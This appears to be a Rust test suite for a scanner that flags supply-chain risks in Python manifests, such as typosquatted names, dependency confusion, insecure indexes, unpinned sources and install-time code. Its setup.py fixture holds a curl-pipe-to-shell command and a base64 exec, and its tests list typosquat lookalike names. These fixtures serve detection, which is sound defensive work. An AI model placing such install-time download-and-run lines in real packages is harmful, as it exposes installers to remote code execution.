//! What is raised about manifests, and what is not.

use super::*;
use crate::manifest::{ManifestKind, kind_of, read};

/// The rules and personas of what is raised, with the text at each place.
fn raised(files: &[(&str, &str)]) -> Vec<String> {
    let sources: Vec<Source> = files
        .iter()
        .map(|(path, text)| {
            let kind = kind_of(path).unwrap_or(ManifestKind::Requirements);
            Source { manifest: read(path, kind, text), text: (*text).to_owned() }
        })
        .collect();
    let mut said = Vec::new();
    for (source, found) in sources.iter().zip(risks(&sources)) {
        for risk in found {
            let text = source.text[risk.range.clone()].lines().next().unwrap_or_default().to_owned();
            said.push(format!("{} {} {}: {text}", risk.rule, risk.persona, risk.severity));
        }
    }
    said
}

fn popular_for(name: &str) -> Option<(&'static str, names::Kind)> {
    names::lookalike(&Name::new(name)?).map(|found| (found.popular, found.kind))
}

#[test]
fn names_one_slip_away_look_like_popular_ones() {
    use names::Kind::*;
    for (name, popular, kind) in [
        ("reqeusts", "requests", Transposed),
        ("requsts", "requests", Missing),
        ("requestss", "requests", Doubled),
        ("tequests", "requests", Slip),
        ("request5", "requests", Glyph),
        ("setup-tools", "setuptools", Separator),
        ("jeIlyfish", "jellyfish", Glyph),
        ("urlib3", "urllib3", Doubled),
        ("mateplotlib", "matplotlib", Added),
        ("beautifulsup4", "beautifulsoup4", Missing),
        ("nhmpy", "numpy", Slip),
        ("dajngo", "django", Transposed),
        ("crytography", "cryptography", Missing),
        ("dateutil-python", "python-dateutil", Order),
        ("python-urllib3", "urllib3", Affix),
    ] {
        assert_eq!(popular_for(name), Some((popular, kind)), "{name}");
    }
}

#[test]
fn popular_names_and_names_of_their_own_look_like_nothing() {
    for name in
        ["requests", "django", "pyaml", "boto", "redisx", "udocker", "acme-internal", "dython", "flake9", "é", "a"]
    {
        assert_eq!(popular_for(name), None, "{name}");
    }
}

/// Packages of the PyPA's advisory database that are not among the most downloaded: all of them are real, and rarely named.
const REAL: &str = include_str!("../../tests/data/names-with-advisories.txt");

#[test]
fn packages_that_are_known_to_be_real_look_like_nothing() {
    let told: Vec<(&str, &str)> = REAL
        .lines()
        .filter_map(|name| Some((name, popular_for(name)?)))
        .filter(|(_, (_, kind))| !matches!(kind, names::Kind::Affix | names::Kind::Order))
        .map(|(name, (popular, _))| (name, popular))
        .collect();
    assert_eq!(told, []);
}

#[test]
fn names_of_any_length_are_looked_at_quickly() {
    assert_eq!(popular_for(&"a-".repeat(50_000)), None);
    assert_eq!(popular_for(&format!("{}a", "a-".repeat(50_000))), None);
}

#[test]
fn own_packages_and_those_of_other_places_look_like_nothing() {
    assert_eq!(
        raised(&[
            ("requirements.txt", "reqeusts==1.0\nflaks @ file:///srv/flaks.whl\nreqeusts\n"),
            ("a/pyproject.toml", "[project]\nname = \"panads\"\n[build-system]\nrequires = []\n"),
            ("a/requirements.txt", "panads==1.0\n"),
        ]),
        ["typosquatted-dependency regular high: reqeusts==1.0", "unpinned-dependency pedantic low: reqeusts"]
    );
}

#[test]
fn an_index_beside_pypi_confuses_internal_names() {
    let of = |text: &str| {
        raised(&[("requirements.txt", text)]).into_iter().filter(|one| one.starts_with("dep")).collect::<Vec<_>>()
    };
    let extra = "--extra-index-url https://pypi.corp.example/simple\n";
    assert_eq!(
        of(&format!("{extra}acme-billing==1.0\nrequests==2.0\n")),
        [format!("dependency-confusion regular high: {}", extra.trim())]
    );
    assert_eq!(
        of(&format!("{extra}requests==2.0\n")),
        [format!("dependency-confusion pedantic low: {}", extra.trim())]
    );
    // Nothing public is asked, everything is hashed, or the index is known to hold what PyPI has under the same names.
    assert!(of(&format!("-i https://pypi.corp.example/all\n{extra}acme-billing==1.0\n")).is_empty());
    assert!(of(&format!("{extra}acme-billing==1.0 --hash=sha256:aa\n")).is_empty());
    assert!(of("--extra-index-url https://download.pytorch.org/whl/cu118\nacme-billing==1.0\n").is_empty());
    // The private one first, and PyPI beside it, is the same.
    assert_eq!(
        of("-i https://pypi.corp.example/simple\n--extra-index-url https://pypi.org/simple\nacme-billing==1.0\n").len(),
        1
    );
}

#[test]
fn indexes_of_uv_are_asked_in_order_unless_told_otherwise() {
    let project = |more: &str| {
        format!(
            "[project]\nname = \"a\"\ndependencies = [\"acme-billing\"]\n[tool.uv]\n{more}\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"https://pypi.corp.example/simple\"\n"
        )
    };
    assert!(raised(&[("pyproject.toml", &project(""))]).is_empty());
    let said = raised(&[("pyproject.toml", &project("index-strategy = \"unsafe-best-match\""))]);
    assert_eq!(said, ["dependency-confusion regular high: \"https://pypi.corp.example/simple\""]);
}

#[test]
fn a_supplemental_source_of_poetry_confuses_what_is_not_pinned_to_it() {
    let project = |billing: &str, priority: &str| {
        format!(
            "[tool.poetry]\nname = \"a\"\n[tool.poetry.dependencies]\nacme-billing = {billing}\n[[tool.poetry.source]]\nname = \"corp\"\nurl = \"https://pypi.corp.example/simple\"\npriority = \"{priority}\"\n"
        )
    };
    let of = |billing: &str, priority: &str| raised(&[("pyproject.toml", &project(billing, priority))]);
    let wanted = "dependency-confusion regular high: \"https://pypi.corp.example/simple\"";
    assert_eq!(of("\"^1\"", "supplemental"), [wanted]);
    assert!(of("\"^1\"", "explicit").is_empty());
    let pinned = of("{ version = \"^1\", source = \"corp\" }", "supplemental");
    assert!(pinned.iter().all(|one| !one.contains("regular")), "{pinned:?}");
}

#[test]
fn indexes_without_encryption_are_insecure_but_for_this_machine() {
    assert_eq!(
        raised(&[(
            "requirements.txt",
            "--index-url http://pypi.corp.example/simple\n--trusted-host pypi.corp.example\n--trusted-host pypi.org\n\
             --find-links http://localhost:8000/\n-f http://wheels.example/\na==1 --hash=sha256:aa\nb==1\n"
        )]),
        [
            "insecure-package-index regular high: --index-url http://pypi.corp.example/simple",
            "insecure-package-index regular high: --trusted-host pypi.org",
            "insecure-package-index regular high: -f http://wheels.example/",
            "unhashed-requirements regular low: b==1",
        ]
    );
    // What has a hash cannot be replaced on the way.
    assert_eq!(
        raised(&[("requirements.txt", "-f http://wheels.example/\na==1 --hash=sha256:aa\n")]),
        ["insecure-package-index regular low: -f http://wheels.example/"]
    );
    assert_eq!(
        raised(&[(
            "requirements.txt",
            "git+http://git.example/a.git@0123456789abcdef0123456789abcdef01234567#egg=a\n"
        )]),
        [""; 0]
    );
}

#[test]
fn sources_that_change_are_told_unless_a_lock_holds_them() {
    let git = "tool @ git+https://git.example/tool.git";
    assert_eq!(
        raised(&[(
            "requirements.txt",
            &format!("{git}\n{git}@v1.2\n{git}@0123456789abcdef0123456789abcdef01234567\n")
        )]),
        [format!("unpinned-source regular medium: {git}"), format!("unpinned-source regular low: {git}@v1.2")]
    );
    assert_eq!(
        raised(&[("requirements-dev.txt", &format!("{git}\n"))]),
        [format!("unpinned-source pedantic medium: {git}")]
    );
    assert_eq!(raised(&[("requirements.txt", "-e git+https://git.example/tool.git\n")]).len(), 1);
    let project = "[project]\nname = \"a\"\ndependencies = [\"tool\"]\n[tool.uv.sources]\ntool = { git = \"https://git.example/tool\", branch = \"main\" }\n";
    assert_eq!(raised(&[("pyproject.toml", project)]), ["unpinned-source regular medium: tool"]);
    assert_eq!(raised(&[("pyproject.toml", project), ("uv.lock", "version = 1\n")]), [""; 0]);
}

#[test]
fn lists_without_hashes_and_versions_are_told_to_those_who_ask() {
    assert_eq!(raised(&[("requirements.txt", "a==1\nb==1\nc==1\n")]), ["unhashed-requirements pedantic low: a==1"]);
    assert_eq!(raised(&[("requirements.txt", "a\nb>=1\n")]), ["unpinned-dependency pedantic low: a"]);
    assert_eq!(raised(&[("requirements.txt", "b>=1\n")]), ["unpinned-dependency auditor low: b>=1"]);
    // The ranges of a library are meant to be wide, and those of an input are resolved elsewhere.
    let library = "[build-system]\nrequires = []\n[project]\nname = \"shop\"\n";
    assert_eq!(raised(&[("pyproject.toml", library), ("requirements.txt", "a\n")]), [""; 0]);
    assert_eq!(raised(&[("requirements.in", "a\n")]), [""; 0]);
}

#[test]
fn code_of_a_setup_is_told_by_what_it_does() {
    let setup = "import base64, os, subprocess, urllib.request\nfrom setuptools import setup\n\
        exec(open('version.py').read())\n\
        exec(base64.b64decode('cHJpbnQoMSk=').decode())\n\
        subprocess.check_output(['git', 'describe'])\n\
        os.system('curl https://example.org/x | sh')\n\
        urllib.request.urlopen('https://example.org/x')\n\
        setup(name='a', cmdclass={'install': X})\n";
    assert_eq!(
        raised(&[("setup.py", setup)]),
        [
            "install-time-code regular high: exec(base64.b64decode('cHJpbnQoMSk=').decode())",
            "install-time-code auditor low: subprocess.check_output(['git', 'describe'])",
            "install-time-code regular medium: os.system('curl https://example.org/x | sh')",
            "install-time-code regular medium: urllib.request.urlopen('https://example.org/x')",
            "install-time-code auditor info: cmdclass={'install': X}",
        ]
    );
}

#[test]
fn groups_of_a_package_that_is_built_stay_with_it() {
    let groups = "[dependency-groups]\nshades = [\"shades @ git+https://git.example/shades.git\"]\n";
    let package = "[build-system]\nrequires = []\n[project]\nname = \"a\"\n";
    let extra = "optional-dependencies.more = [\"more @ git+https://git.example/more.git\"]\n";
    assert_eq!(
        raised(&[("pyproject.toml", &format!("{package}{extra}{groups}"))]),
        [
            "unpinned-source regular medium: more @ git+https://git.example/more.git",
            "unpinned-source pedantic medium: shades @ git+https://git.example/shades.git",
        ]
    );
    // What is not built may be installed by its groups.
    assert_eq!(
        raised(&[("pyproject.toml", groups)]),
        ["unpinned-source regular medium: shades @ git+https://git.example/shades.git"]
    );
    let poetry = "[build-system]\nrequires = []\n[tool.poetry]\nname = \"a\"\n[tool.poetry.group.shades.dependencies]\n\
        shades = { git = \"https://git.example/shades.git\" }\n";
    assert!(raised(&[("pyproject.toml", poetry)])[0].starts_with("unpinned-source pedantic"));
}

#[test]
fn what_tests_are_about_is_told_to_those_who_ask() {
    let list = "--trusted-host pypi.corp.example\nreqeusts==1.0\na==1 --hash=sha256:aa\n";
    for path in ["tests/fixtures/requirements.txt", "tests/data/a/requirements.txt", "a/testdata/requirements.txt"] {
        let said = raised(&[(path, list)]);
        assert_eq!(said.len(), 3, "{said:?}");
        assert!(said.iter().all(|one| one.contains(" pedantic ")), "{path}: {said:?}");
    }
    // What tests need is installed, and so is what data are made with.
    for path in ["tests/requirements.txt", "data/requirements.txt"] {
        let said = raised(&[(path, list)]);
        assert_eq!(said.iter().filter(|one| one.contains(" regular high")).count(), 2, "{path}: {said:?}");
    }
}

#[test]
fn lists_for_development_need_hashes_less() {
    let some = "a==1 --hash=sha256:aa\nb==1\n";
    assert_eq!(raised(&[("requirements.txt", some)]), ["unhashed-requirements regular low: b==1"]);
    assert_eq!(raised(&[("requirements-dev.txt", some)]), ["unhashed-requirements pedantic low: b==1"]);
    let none = "a==1\nb==1\nc==1\n";
    assert_eq!(raised(&[("docs/requirements.txt", none)]), ["unhashed-requirements auditor low: a==1"]);
    // The metadata of a package have no place for them.
    let package = "[build-system]\nrequires = []\n[project]\nname = \"shop\"\ndynamic = [\"dependencies\"]\n\
        [tool.setuptools.dynamic]\ndependencies = { file = [\"requirements.txt\"] }\n";
    assert_eq!(raised(&[("pyproject.toml", package), ("requirements.txt", none)]), [""; 0]);
}

#[test]
fn own_packages_need_no_version_and_each_name_is_told_once() {
    let files = [
        ("pyproject.toml", "[build-system]\nrequires = []\n[project]\nname = \"shop\"\n"),
        ("Dockerfile", "RUN pip install pip && pip install shop\nRUN pip install --upgrade pip\n"),
    ];
    assert_eq!(raised(&files), ["unpinned-dependency pedantic low: pip"]);
    let sources: Vec<Source> = files
        .iter()
        .map(|(path, text)| Source {
            manifest: read(path, kind_of(path).expect("a manifest"), text),
            text: (*text).to_owned(),
        })
        .collect();
    assert!(risks(&sources)[1][0].message.starts_with("pip has no version"));
}

#[test]
fn commands_that_only_their_names_start_are_told_to_those_who_ask() {
    let setup = |base: &str, names: &str, more: &str| {
        format!(
            "import requests\nfrom setuptools import Command, setup\nfrom setuptools.command.sdist import sdist\n\
             from setuptools.command.install import install\n{more}\n\
             class Scan({base}):\n    def run(self):\n        requests.get('https://example.org/x')\n\
             setup(name='a', cmdclass={names})\n"
        )
    };
    let fetches = |text: &str| {
        let said = raised(&[("setup.py", text)]);
        said.into_iter().find(|one| one.contains("requests.get")).unwrap_or_default()
    };
    for (base, names, more, persona) in [
        ("Command", "{'scan': Scan}", "", "pedantic"),
        ("setuptools.Command", "dict(scan=Scan)", "", "pedantic"),
        ("sdist", "{'sdist': Scan}", "", "pedantic"),
        ("Sdist", "{'sdist': Scan}", "class Sdist(sdist): pass", "pedantic"),
        // Commands that build and install, whatever they are made of, and those that others start.
        ("install", "{'install': Scan}", "", "regular"),
        ("Command", "{'build_py': Scan}", "", "regular"),
        ("install", "{'scan': Scan}", "", "regular"),
        (
            "Command",
            "{'scan': Scan}",
            "class Own(install):\n    def run(self):\n        self.run_command('scan')",
            "regular",
        ),
        ("Command", "{'scan': Scan}", "install.sub_commands.append(('scan', None))", "regular"),
        ("Command", "{'scan': Scan}", "def now():\n    Scan(None).run()", "regular"),
        // Where nobody knows under which name.
        ("Command", "names()", "", "regular"),
        ("base()", "{'scan': Scan}", "", "regular"),
        ("", "{'scan': Scan}", "", "regular"),
        ("Scan", "{'scan': Scan}", "", "regular"),
    ] {
        let said = fetches(&setup(base, names, more));
        assert!(said.starts_with(&format!("install-time-code {persona} medium")), "{base} {names} {more}: {said}");
    }
}
